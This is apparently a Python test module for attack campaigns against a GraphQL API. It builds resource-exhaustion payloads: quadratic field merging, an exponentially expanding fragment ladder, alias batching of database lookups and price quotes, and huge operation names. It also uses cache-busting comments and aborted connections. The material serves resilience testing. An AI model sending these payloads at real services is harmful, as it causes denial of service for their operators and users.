"""Documents that cost more to check or to run than they look like."""

import asyncio
import itertools
from collections.abc import Iterator

import httpx

from tests.campaigns.attack import Attack, Target

_WHOLE_REQUEST = (
    b"POST /graphql HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 35\r\n\r\n"
    b'{"query": "{ collections { id } }"}'
)
_QUOTE = 'quote(input: {prompt: "a boat"}) { total }'


def _overlaps() -> str:
    """Field-merging validation compares every pair of the 490 fields."""
    return "{ a1: __typename " + "collections { id } " * 490 + "}"


def _nested_overlaps() -> str:
    body = "id " * 40
    for _ in range(4):
        body = f"collections {{ {body} }} " * 8
    return "{ " + body + "}"


def _inline_fragments() -> str:
    return "{ " + "... { ... { collections { id title } } } " * 300 + "}"


def _fragment_ladder() -> str:
    """Each fragment spreads the next twice: 2^20 fields if a rule follows every spread."""
    rungs = "".join(f"fragment f{n} on Query {{ ...f{n + 1} ...f{n + 1} }} " for n in range(20))
    return "{ ...f0 } " + rungs + "fragment f20 on Query { __typename }"


def _arguments() -> str:
    return "{ " + " ".join(f'a{n}: style(slug: "a{n}", collection: "b") {{ id }}' for n in range(400)) + "}"


def _directives() -> str:
    return "{ __typename " + "@include(if: true) " * 900 + "}"


def _unknown_fields() -> str:
    return "{ " + " ".join(f"unknown{n}" for n in range(900)) + "}"


def _variables() -> str:
    names = " ".join(f"$v{n}: [[[[Int!]!]!]!]" for n in range(300))
    return f"query({names}) {{ __typename }}"


SHAPES = (_overlaps, _nested_overlaps, _inline_fragments, _fragment_ladder, _arguments, _directives, _unknown_fields,
          _variables)  # fmt: skip


def _documents(*texts: str) -> Iterator[str]:
    """Repeat the texts, each time with another comment, so that no cache knows them."""
    for number in itertools.count():
        yield f"#{number}\n{texts[number % len(texts)]}"


async def _send(target: Target, *texts: str, rate: float = 20.0) -> None:
    """Send `rate` documents per second from two connections, signed out."""
    documents = _documents(*texts)

    async def send() -> httpx.Response:
        return await target.api.raw(next(documents))

    await target.repeat(2, send, pause=2 / rate)


async def quadratic_field_merging(target: Target) -> None:
    """490 equal fields in 7 KB."""
    await _send(target, _overlaps())


async def hostile_document_shapes(target: Target) -> None:
    """Fragments, arguments, directives, variables and unknown fields by the hundred."""
    await _send(target, *(shape() for shape in SHAPES))


async def aliased_shared_generations(target: Target) -> None:
    """50 database lookups in one signed-out query."""
    await _send(target, "{ " + " ".join(f'a{n}: sharedGeneration(slug: "s{n}") {{ slug }}' for n in range(50)) + "}")


async def aliased_quotes(target: Target) -> None:
    """50 prices in one signed-out query."""
    await _send(target, "{ " + " ".join(f"a{n}: {_QUOTE}" for n in range(50)) + "}")


async def long_operation_names(target: Target) -> None:
    """50,000 characters of operationName, and a client that leaves before the answer."""
    body = {"query": "query a { __typename } query b { __typename }", "operationName": "n" * 50_000}

    async def send() -> httpx.Response:
        response = await target.http.post("/graphql", json=body)
        if len(response.content) > 1000:
            target.outcomes["long answer"] += 1
        return response

    async def leave() -> None:
        while not target.is_over:
            _, writer = await target.connect()
            writer.write(_WHOLE_REQUEST)
            await writer.drain()
            writer.transport.abort()
            await asyncio.sleep(0.05)

    await asyncio.gather(target.repeat(2, send, pause=0.1), leave())


ATTACKS: tuple[Attack, ...] = (
    quadratic_field_merging,
    hostile_document_shapes,
    aliased_shared_generations,
    aliased_quotes,
    long_operation_names,
)
